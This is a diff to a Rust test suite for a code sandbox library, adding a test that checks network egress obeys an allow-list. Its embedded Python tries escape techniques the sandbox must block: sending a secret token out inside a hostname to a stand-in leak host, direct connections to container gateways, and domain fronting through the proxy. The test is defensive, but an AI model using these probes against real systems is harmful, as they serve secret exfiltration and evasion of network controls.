@@ -16,8 +16,8 @@ mod support;
 use sandlot::backend::docker::{ContainerBackend, Engine, TlsFiles};
 use sandlot::backend::pool::{Exhausted, PoolOptions};
 use sandlot::{
-    Capability, EndReason, Error, Execution, Limits, PluginHost, PolicyField, RunOptions, Sandlot,
-    Session, SessionState,
+    Capability, EndReason, Error, Execution, Limits, Network, PluginHost, Policy, PolicyField,
+    RunOptions, Sandlot, Session, SessionState,
 };
 use std::path::PathBuf;
 use std::sync::{Arc, Mutex, OnceLock};
@@ -357,6 +357,132 @@ fn secrets_reach_the_code_and_come_back_masked(backend: &str) {
         std::fs::read(out.path().join("kept.txt")).unwrap(),
         b"k=***"
     );
+}
+
+/// Under an allow-list, code reaches the listed local servers over HTTP and HTTPS
+/// (through the proxy its environment names) and nothing else: not another server,
+/// not an unlisted name, not a listed front asked for another server, not the host
+/// directly, and DNS answers listed names only. What was refused comes back with the
+/// run, a secret in a refused name masked. Docker and Podman on this machine enforce
+/// it; the wasm backend has no network at all; a remote engine and Kubernetes refuse
+/// the policy.
+fn egress_goes_only_where_the_allow_list_says(backend: &str) {
+    let servers = support::EgressServers::start();
+    let secret = "sk-egress-7f3a";
+    let mut builder = sandlot().session("python");
+    builder
+        .backend(backend)
+        .policy(Policy {
+            network: Network::AllowList,
+            allow: "localhost 127.0.0.1/32 allowed.test".parse().unwrap(),
+            ..Policy::default()
+        })
+        .secret("TOKEN", secret)
+        .unwrap();
+    let mut session = match builder.open() {
+        Ok(session) => session,
+        Err(error) => {
+            assert!(
+                matches!(backend, "docker-tls" | "kubernetes"),
+                "{backend}: {error}"
+            );
+            assert!(
+                matches!(
+                    error,
+                    Error::BackendCannot {
+                        capability: Capability::NetworkControl,
+                        ..
+                    }
+                ),
+                "{error}"
+            );
+            return;
+        }
+    };
+    let code = format!(
+        r#"import os, socket, ssl, urllib.request
+# The test's servers are on the host's loopback, which is `localhost` to the sandbox
+# too: send it through the proxy.
+os.environ['no_proxy'] = os.environ['NO_PROXY'] = ''
+def get(url, **kw):
+    try:
+        return urllib.request.urlopen(url, timeout=20, **kw).read().decode()
+    except Exception as e:
+        return 'refused ' + str(getattr(e, 'code', type(e).__name__))
+unverified = ssl._create_unverified_context()
+print('http', get('http://localhost:{http}/'))
+print('https', get('https://localhost:{https}/', context=unverified))
+print('other', get('http://127.0.0.2:{other}/'))
+print('other-name', get('http://unlisted.test:{http}/'))
+print('leak', get('http://%s.leak.test/' % os.environ['TOKEN']))
+def resolves(name):
+    try:
+        return socket.gethostbyname(name)
+    except OSError:
+        return 'no'
+print('dns', resolves('allowed.test'), resolves('denied.test'))
+def direct(host):
+    try:
+        socket.create_connection((host, {http}), timeout=5)
+        return 'connected'
+    except OSError:
+        return 'no'
+print('direct', direct('172.17.0.1'), direct('10.88.0.1'))
+def fronted():
+    try:
+        s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
+        s.sendall(b'CONNECT localhost:{https} HTTP/1.1\r\n\r\n')
+        s.recv(1024)
+        unverified.wrap_socket(s, server_hostname='evil.test').recv(1)
+        return 'through'
+    except OSError:
+        return 'cut'
+print('front', fronted())
+"#,
+        http = servers.http,
+        https = servers.https,
+        other = servers.other,
+    );
+    let run = session.run(&code).unwrap();
+    if backend == "wasm" {
+        // No network to allow anything on.
+        assert!(
+            !run.stdout_text().contains("allowed-"),
+            "{}",
+            run.stdout_text()
+        );
+        assert!(run.egress_denied.is_empty());
+        return;
+    }
+    assert_eq!(
+        run.stdout_text(),
+        "http allowed-http\nhttps allowed-https\nother refused 403\nother-name refused 403\n\
+         leak refused 403\ndns 127.0.0.1 no\ndirect no no\nfront cut\n",
+        "{}",
+        run.stderr_text()
+    );
+    let mut denied: Vec<(String, Option<u16>, String)> = run
+        .egress_denied
+        .iter()
+        .map(|d| (d.host.clone(), d.port, d.via.to_string()))
+        .collect();
+    denied.sort();
+    let mut expected = vec![
+        (
+            "127.0.0.2".to_string(),
+            Some(servers.other),
+            "http".to_string(),
+        ),
+        ("unlisted.test".into(), Some(servers.http), "http".into()),
+        ("***.leak.test".into(), Some(80), "http".into()),
+        ("denied.test".into(), None, "dns".into()),
+        ("localhost".into(), Some(servers.https), "tls".into()),
+    ];
+    expected.sort();
+    assert_eq!(denied, expected, "{:#?}", run.egress_denied);
+    // The next run starts with nothing refused.
+    let quiet = session.run("print(1)").unwrap();
+    assert!(quiet.egress_denied.is_empty(), "{:?}", quiet.egress_denied);
 }
 
 fn working_directory_travels_with_the_run(backend: &str) {
@@ -951,6 +1077,7 @@ macro_rules! conformance {
             #[test] fn files_and_trees_go_in_and_out() { super::files_and_trees_go_in_and_out($backend) }
             #[test] fn environment_travels_with_the_run() { super::environment_travels_with_the_run($backend) }
             #[test] fn secrets_reach_the_code_and_come_back_masked() { super::secrets_reach_the_code_and_come_back_masked($backend) }
+            #[test] fn egress_goes_only_where_the_allow_list_says() { super::egress_goes_only_where_the_allow_list_says($backend) }
             #[test] fn working_directory_travels_with_the_run() { super::working_directory_travels_with_the_run($backend) }
             #[test] fn capabilities_are_what_they_say() { super::capabilities_are_what_they_say($backend) }
             #[test] fn state_lives_across_runs() { super::state_lives_across_runs($backend) }
